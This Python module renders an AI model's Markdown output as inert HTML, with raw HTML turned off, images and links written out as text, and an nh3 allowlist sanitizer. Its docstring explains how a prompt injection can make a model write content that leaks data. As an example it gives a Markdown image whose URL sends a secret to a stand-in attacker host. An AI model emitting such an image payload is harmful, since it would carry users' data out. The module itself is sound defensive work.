"""Model output as Markdown, rendered so that nothing in it can run, load or leak.

An answer is untrusted text: a prompt injection can make the model write HTML, a script, an event handler, or an
image whose URL carries data out (`![x](https://evil.example/?q=SECRET)` is fetched the moment it renders). So:

- markdown-it-py parses it (CommonMark, tables, strikethrough) with raw HTML off: any HTML is shown as text, and
  code shows `a < b` as written;
- images and links are written out as their text and URL, never as `<img>` or `<a>`: nothing is fetched,
  nothing is clickable;
- nh3 (the Rust `ammonia` sanitizer) then cleans the result against an allowlist of tags, with no attributes but
  a code block's language class: a second line of defence if a rule above were ever wrong.

`markdown_html(text)` is the HTML; it has no blank line, so it is also a Markdown document (a single HTML block)
for outputs whose MIME type is text/markdown.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.token import Token

TAGS = {"p", "br", "hr", "em", "strong", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
        "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div"}  # fmt: skip
ATTRIBUTES = {"code": {"class"}, "span": {"class"}, "div": {"class"}, "ol": {"start"}}
_PRE = re.compile(r"<pre>.*?</pre>", re.DOTALL)


def _image(tokens: Sequence[Token], idx: int, _options: Any, _env: Any) -> str:
    token = tokens[idx]
    alt, src = "".join(child.content for child in token.children or []), str(token.attrGet("src") or "")
    return f'<span class="cf-md-url">[image: {html.escape(alt)} — {html.escape(src)}]</span>'


def _link_open(tokens: Sequence[Token], idx: int, _options: Any, env: dict) -> str:
    token = tokens[idx]  # an autolink (`<https://…>`) shows its URL as its text already
    env.setdefault("links", []).append("" if token.markup == "autolink" else str(token.attrGet("href") or ""))
    return '<span class="cf-md-link">'


def _link_close(_tokens: Sequence[Token], _idx: int, _options: Any, env: dict) -> str:
    href = env["links"].pop()
    return f'</span> <span class="cf-md-url">({html.escape(href)})</span>' if href else "</span>"


def _parser() -> MarkdownIt:
    # breaks: a single newline is a line break, as the model wrote it (a chat answer is not a document to reflow)
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True}).enable(["table", "strikethrough"])
    md.add_render_rule("image", lambda self, *args: _image(*args))
    md.add_render_rule("link_open", lambda self, *args: _link_open(*args))
    md.add_render_rule("link_close", lambda self, *args: _link_close(*args))
    return md


_MD = _parser()


def markdown_html(text: str) -> str:
    """`text` rendered as Markdown into inert HTML (see the module's note), without blank lines."""
    rendered = _MD.render(text, {})
    clean = nh3.clean(rendered, tags=TAGS, attributes=ATTRIBUTES, url_schemes=set(), link_rel=None,
                      strip_comments=True)  # fmt: skip
    return _PRE.sub(lambda m: m[0].replace("\n", "&#10;"), clean).strip()
